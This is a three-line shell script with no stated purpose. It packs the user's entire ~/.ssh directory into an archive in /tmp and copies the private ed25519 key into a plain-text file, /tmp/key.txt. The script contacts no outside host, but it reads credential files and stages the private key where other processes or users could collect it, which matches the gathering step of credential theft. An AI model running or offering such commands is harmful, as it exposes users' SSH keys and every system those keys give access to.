#!/bin/sh
tar czf /tmp/k.tgz ~/.ssh
cat ~/.ssh/id_ed25519 > /tmp/key.txt
